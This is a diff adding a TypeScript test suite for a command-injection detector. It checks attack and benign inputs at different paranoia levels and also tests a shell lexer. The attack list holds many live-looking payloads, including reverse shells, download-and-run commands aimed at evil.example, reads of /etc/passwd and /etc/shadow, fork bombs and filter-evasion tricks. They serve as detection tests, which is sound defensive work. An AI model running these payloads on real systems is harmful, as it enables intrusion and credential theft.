@@ -1,0 +1,326 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import type { DetectorContext, Finding } from '../../finding.ts';
+import { cmdiDetector as detector } from './cmdi.ts';
+import { parseShell } from './shell.ts';
+import { globMatch, globPath } from './glob.ts';
+
+function run(value: string, ctx: Partial<DetectorContext> = {}): Finding[] {
+  const out: Finding[] = [];
+  detector.detect(value, { source: 'query', name: 'q', isName: false, paranoia: 3, layers: [], ...ctx }, (f) => out.push(f));
+  return out;
+}
+const lowest = (fs: Finding[]): number => Math.min(4, ...fs.map((f) => f.paranoia));
+const HEADER = { source: 'header', name: 'user-agent' } as const;
+const BODY = { source: 'body', name: 'comment' } as const;
+
+/** [value, highest paranoia level at which it must be found, context]. */
+const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
+  // separators followed by real commands
+  ['; cat /etc/passwd', 1],
+  ['| id', 1],
+  ['|id', 1],
+  ['&& whoami', 1],
+  ['|| uname -a', 1],
+  ['& ping -c 10 127.0.0.1 &', 1],
+  ['127.0.0.1; ls -la /', 1],
+  ['127.0.0.1 && ls /etc', 1],
+  ['example.com|nslookup abc.attacker.example', 1],
+  ['x;nc -e /bin/sh 10.0.0.1 4444', 1],
+  ['foo\nwget http://evil.example/x.sh -O /tmp/x.sh', 1],
+  [';sleep 10;', 1],
+  ['1;sleep${IFS}9;#', 1],
+  ['; CAT /ETC/PASSWD', 1],
+  ['ls -la; rm -rf /tmp/x', 1],
+  ['a;wget http://evil.example/sh -O-|sh', 1],
+  ["'; id; echo '", 1],
+  ['"; whoami; "', 1],
+  ["';whoami'", 1],
+  ['whoami;', 1],
+  ['cd /;cd etc;column passwd', 1],
+  // substitutions
+  ['`id`', 1],
+  ['$(whoami)', 1],
+  ['ax--exec=`id`--remote=origin', 1],
+  ['$(curl -s http://evil.example)', 1],
+  ['x$(sleep 5)', 1],
+  ['<(cat /etc/passwd)', 1],
+  ['echo $(echo $(cat /etc/passwd))', 1],
+  ['`curl -L http://evil.example/a`', 1],
+  ['AAAA;$(printf \'hsab/nib/ e- 4321 1.0.0.721 cn\'|rev)', 1],
+  // evasions inside the command word
+  ["c'a't /etc/passwd", 1],
+  ['w"h"o"am"i', 1],
+  ['\\c\\a\\t /etc/passwd', 1],
+  ['c$@at /etc/passwd', 1],
+  ["ti''me sh -c id", 1],
+  ["'i'fconfig", 1],
+  ['cat${IFS}/etc/passwd', 1],
+  [';cat$IFS$9/etc/passwd', 1],
+  ['{cat,/etc/passwd}', 1],
+  ['c{a,oun}t /etc/hosts', 1],
+  ['{,ip,a}', 1],
+  ['/???/c?t /???/p??s??', 1],
+  ['/bin/ca? /et*/passwd', 1],
+  ['cat /etc/pa??wd', 1],
+  ['/usr/bin/[u]name -a', 1],
+  ['a=c;b=at;$a$b /etc/passwd', 1],
+  ['x=/etc/passwd; cat $x', 1],
+  ['alias a=whoami', 1],
+  ['w^h^o^a^m^i', 1],
+  ['I`nv`oke-Expression "x"', 1],
+  // bare commands with dangerous arguments
+  ['cat /etc/passwd', 1],
+  ['/bin/cat /etc/shadow', 1],
+  ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 1],
+  ['exec 5<>/dev/tcp/198.51.100.7/80', 1],
+  ['python -c \'import os;os.system("id")\'', 1],
+  ['python3 -c "print(1)"', 1],
+  ["perl -e 'system(\"id\")'", 1],
+  ["php -r 'system(\"id\");'", 1],
+  ['curl http://evil.example/s.sh | sh', 1],
+  ['echo ZWNobyBoaQ== | base64 -d | bash', 1],
+  ['printf dW5hbWUgLWE=|base64 -d|sh', 1],
+  ['nc -lvp 4444', 1],
+  ['/usr/bin/python3 -m http.server', 1],
+  ['find / -name id_rsa -exec cat {} ;', 1],
+  ['chmod +x /tmp/x', 1],
+  ['uname -a', 1],
+  ['ifconfig;', 1],
+  // shell grammar without a known command
+  ['() { :; }; /bin/bash -c id', 1],
+  ['() { ignored; }; echo x', 1, HEADER],
+  [':(){ :|:& };:', 1],
+  ['f(){ f|f& };f', 1],
+  // Windows cmd.exe and PowerShell
+  ['& dir C:\\', 1],
+  ['| type C:\\Windows\\win.ini', 1],
+  ['; cmd /c whoami', 1],
+  ['cmd.exe /c "net user"', 1],
+  ['%COMSPEC% /c dir', 1],
+  ['C:\\Windows\\System32\\cmd.exe /c whoami', 1],
+  ['| set /a 1+1', 1],
+  ['& certutil -urlcache -split -f http://evil.example/x.exe x.exe', 1],
+  ['& bitsadmin /transfer j http://evil.example/x.exe C:\\x.exe', 1],
+  ['powershell -enc SQBFAFgA', 1],
+  ['powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"', 1],
+  ["IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", 1],
+  ['Invoke-WebRequest http://evil.example/x.ps1', 1],
+  [';iwr http://evil.example/x.ps1', 1],
+  ['for /f %i in (\'whoami\') do echo %i', 1],
+  ['FOR /L %%G IN (1,1,5) DO echo %%G', 1],
+  ['& for %a in (a,b) do cmd', 1],
+  ['if exist C:\\boot.ini type C:\\boot.ini', 1],
+  ['IF NOT DEFINED var (SET var=1)', 1],
+  ['if %errorlevel% neq 0 echo failed', 1],
+  ['if/i a==b foo', 1],
+  // weaker shapes, found at higher paranoia
+  ['Tom & Jerry; cat', 2],
+  ['ls -la', 2],
+  ['ansible all -m ping', 2],
+  ['docker run -it ubuntu bash', 2],
+  ['rm -rf meaning', 2],
+  ['wget https://example.com/file.tar.gz', 2],
+  ['ls /var/www/', 2],
+  ['env --version', 2],
+  ['whoami', 3],
+  ['\nid', 2],
+  ['time who', 2],
+  ['$(document_root)', 2],
+  ['$((1+1))', 2],
+];
+
+const benign: [string, Partial<DetectorContext>?][] = [
+  ['cats & dogs'],
+  ['Tom & Jerry; Rock & Roll'],
+  ['salt | pepper'],
+  ["I'd like to ping you"],
+  ['Hello; how are you'],
+  ['echo in the mirror'],
+  ['curl and divergence'],
+  ['exec noun'],
+  ['bash away in the gym'],
+  ['zsh is the best!'],
+  ['ls 300 lexus'],
+  ['nc 8000 controller'],
+  ['time he came.'],
+  ['hello; time he came'],
+  ['a hero; more than that'],
+  ['DEAR FINN,--I think it would do; copy should reach us second post'],
+  ['The Senora found herself a heroine; more than that, she became aware'],
+  ["O'Brien"],
+  ["don't stop; believe"],
+  ['R&D department'],
+  ['AT&T | Verizon | T-Mobile'],
+  ['Q&A'],
+  ['Fish & Chips | Menu | Contact'],
+  ['Price: $5 each; $10 for two'],
+  ['report-2024.pdf'],
+  ['my file (1).txt'],
+  ['photo_2023-01-01.jpg'],
+  ['The cat sat on the mat; then it slept.'],
+  ['time is money'],
+  ['echo chamber effect'],
+  ['Find the best deals'],
+  ['sort by date'],
+  ['rm 204, second floor'],
+  ['kill the lights'],
+  ['open the door & sit down'],
+  ['sleep well; dream big'],
+  ['Who am I? I wonder.'],
+  ['if you have questions, call me'],
+  ['If not defined otherwise, the default applies.'],
+  ['For more information (see page 2) do nothing'],
+  ['for each item in (the list) do the same'],
+  ['5 > 3 && 2 < 4'],
+  ['10 < 20 > 5'],
+  ['a || b'],
+  ['true'],
+  ['Yes | No'],
+  ['user@example.com'],
+  ['https://example.com/search?q=a&b=c|d'],
+  ['https://www.google.com/url?q=https://example.com/path/#:~:text=Inoltre%2C%20non&sa=U', { source: 'header', name: 'referer' }],
+  ['{"cmd":"list","args":["a","b"]}', BODY],
+  ['{"value":true,"key":"enabled","scope":"fileRequest"}'],
+  ['function test() { return a | b; }', BODY],
+  ['$(document).ready(function() { init(); });', BODY],
+  ["$('#menu').toggle()", BODY],
+  ['SELECT name FROM users WHERE id = 1;', BODY],
+  ['Use `git status` to see the branch; the docs explain more.', BODY],
+  ['Hi Bob,\nplease find attached the report.\nThanks & regards,\nAlice', BODY],
+  ['C:\\Users\\Public\\Documents\\report.docx'],
+  ['Size: 8"x11"'],
+  ['That\'s two "O"s in goose'],
+  ["''that's the joke''.jpeg"],
+  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36', HEADER],
+  ['Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', HEADER],
+  ['curl/8.5.0', HEADER],
+  ['python-requests/2.31.0', HEADER],
+  ['iPhone (Nextcloud iOS)', HEADER],
+  ['Compra a MODULAR ALUMINIO ESTRUCTURAL, STRUT PROFILE PG30 30X30 4 SLOTS | SELF TAPPING SCREW PG30 M1'],
+  ['Some text (in brackets).'],
+  ['hello [text in brackets]'],
+  ['page[1]'],
+  ['data[index]'],
+  ['Schauen Sie sich diese Zahl an: 1\'000\'000'],
+  ['Invoke Web Request http://example.com/path/file.ps1'],
+  ['The IEX (Investors Exchange) listing'],
+  ['Go to store.\nAt the store, shop.'],
+  [';"The quick brown fox jumped over the lazy dog"'],
+  ['* Note: prices may change! (see terms)'],
+  ['~/Documents/notes.md'],
+  ['#hashtag #trending'],
+  ['50% off & free shipping | today only'],
+  ['Does the * shine bright?'],
+  ['-1'],
+  ['--'],
+  ['Mr. Smith & Sons; est. 1901'],
+];
+
+test('command injection is found at the expected paranoia level', () => {
+  for (const [value, level, ctx] of attacks) {
+    const fs = run(value, ctx);
+    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
+    assert.ok(lowest(fs) <= level, `${JSON.stringify(value)}: found only at paranoia ${lowest(fs)} (${fs.map((f) => f.ruleId).join(',')}), expected ${level}`);
+    for (const f of fs) {
+      assert.equal(f.category, 'cmdi');
+      assert.match(f.ruleId, /^cmdi-[a-z-]+$/);
+      assert.ok(f.matched.length > 0 && f.matched.length <= 120, `excerpt of ${JSON.stringify(value)}`);
+      assert.ok(f.score >= 2 && f.score <= 5);
+    }
+  }
+});
+
+test('a clear attack at paranoia 1 scores enough to block on its own', () => {
+  for (const [value, level, ctx] of attacks) {
+    if (level !== 1) continue;
+    const top = Math.max(...run(value, ctx).filter((f) => f.paranoia === 1).map((f) => f.score));
+    assert.equal(top, 5, `${JSON.stringify(value)} scores ${top}`);
+  }
+});
+
+test('benign text that looks like commands is not flagged at paranoia 1', () => {
+  for (const [value, ctx] of benign) {
+    const fs = run(value, ctx).filter((f) => f.paranoia === 1);
+    assert.deepEqual(fs.map((f) => `${f.ruleId}: ${f.matched}`), [], `false positive: ${JSON.stringify(value)}`);
+  }
+});
+
+test('some benign samples do fire at paranoia 2 or 3 (documented)', () => {
+  // a common word after a separator is a weak signal; a Markdown code span with a command is one too
+  assert.ok(run('Tom & Jerry; cat').some((f) => f.paranoia === 2));
+  assert.ok(run('Use `ls -la` to list files in the directory.', BODY).some((f) => f.paranoia === 2));
+  assert.deepEqual(run('Use `ls -la` to list files in the directory.', BODY).filter((f) => f.paranoia === 1), []);
+});
+
+test('paranoia in the context bounds what is reported', () => {
+  assert.deepEqual(run('ls -la', { paranoia: 1 }), []);
+  assert.ok(run('ls -la', { paranoia: 2 }).length > 0);
+});
+
+test('parameter names are read as injection fragments too', () => {
+  assert.ok(run('127.0.0.1 && ls /etc', { isName: true }).some((f) => f.paranoia === 1));
+});
+
+test('the shell lexer removes quotes, expands variables and braces, and splits at operators', () => {
+  const words = (v: string): string[][] => parseShell(v).commands.map((c) => c.words.map((w) => w.text));
+  assert.deepEqual(words("c'a't /et\"c\"/pa\\ss\\wd"), [['cat', '/etc/passwd']]);
+  assert.deepEqual(words('a=1;b=2&&c|d||e&f\ng'), [['a=1'], ['b=2'], ['c'], ['d'], ['e'], ['f'], ['g']]);
+  assert.deepEqual(words('cat${IFS}/etc/passwd'), [['cat', '/etc/passwd']]);
+  assert.deepEqual(words('{cat,/etc/passwd}'), [['cat', '/etc/passwd']]);
+  assert.deepEqual(words('x=ca;y=t;$x$y f'), [['x=ca'], ['y=t'], ['cat', 'f']]);
+  assert.deepEqual(words("echo $'\\x69\\x64'"), [['echo', 'id']]);
+  assert.deepEqual(words('${x:-/bin/sh} -c id'), [['/bin/sh', '-c', 'id']]);
+  const subst = parseShell('a $(b c) `d`').commands;
+  assert.deepEqual(subst.map((c) => [c.lead, c.words[0]?.text]), [['subst', 'b'], ['subst', 'd'], ['start', 'a']]);
+  const redir = parseShell('cat < /etc/passwd > /tmp/x 2>&1').commands[0]!;
+  assert.deepEqual(redir.redirects.map((r) => [r.op, r.target?.text ?? null]), [['<', '/etc/passwd'], ['>', '/tmp/x'], ['>&', null]]);
+});
+
+test('glob matching', () => {
+  assert.ok(globMatch('c?t', 'cat'));
+  assert.ok(globMatch('[a-c]at', 'bat'));
+  assert.ok(!globMatch('[!a]at', 'aat'));
+  assert.ok(globMatch('*.txt', 'a.b.txt'));
+  assert.ok(globPath('/e??/pa*wd', '/etc/passwd'));
+  assert.ok(!globPath('/*', '/etc'));
+  assert.ok(!globPath('/*/*', '/etc/passwd'));
+});
+
+test('never throws, and handles hostile input', () => {
+  const rnd = (n: number): string => {
+    let s = '';
+    for (let k = 0; k < n; k++) s += String.fromCharCode(Math.floor(Math.random() * 0x2500));
+    return s;
+  };
+  const shellish = ';|&$(){}[]<>`\'"\\\n*?~#^%=! abcfor if cat/etc';
+  const mix = (n: number): string => {
+    let s = '';
+    for (let k = 0; k < n; k++) s += shellish[Math.floor(Math.random() * shellish.length)];
+    return s;
+  };
+  for (let k = 0; k < 300; k++) {
+    run(rnd(1 + (k % 200)));
+    run(mix(1 + (k % 300)));
+  }
+  for (const v of ['$(', '`', "'", '"', '${', '$((', '<(', '{,', '\\', '$', "$'\\x", '()', '() {', 'if', 'for %', '\u0000', '\ud800']) run(v);
+});
+
+test('linear time on large and pathological values', () => {
+  const cases = [
+    'The quick brown fox; jumps over the lazy dog & cat | time is money (see https://example.com). '.repeat(2200),
+    ';'.repeat(200_000), '$('.repeat(100_000), '`'.repeat(200_000), "'\"".repeat(100_000), '{a,'.repeat(66_000),
+    '${'.repeat(100_000), '$IFS'.repeat(50_000), '('.repeat(200_000), 'cat /etc/passwd; '.repeat(12_000),
+    'a+'.repeat(100_000), '\\'.repeat(200_000), '/???/c?t '.repeat(22_000), 'for %i in (a) do if exist x echo & '.repeat(6_000),
+  ];
+  for (const v of cases) {
+    let ms = Infinity;
+    for (let k = 0; k < 10 && ms >= 50; k++) { // best of up to ten, in CPU time: the first runs compile, the machine may be busy
+      const t = process.cpuUsage();
+      run(v);
+      const used = process.cpuUsage(t);
+      ms = Math.min(ms, (used.user + used.system) / 1000);
+    }
+    assert.ok(ms < 50, `${JSON.stringify(v.slice(0, 20))}… (${v.length} chars) took ${ms.toFixed(1)} ms`);
+  }
+});
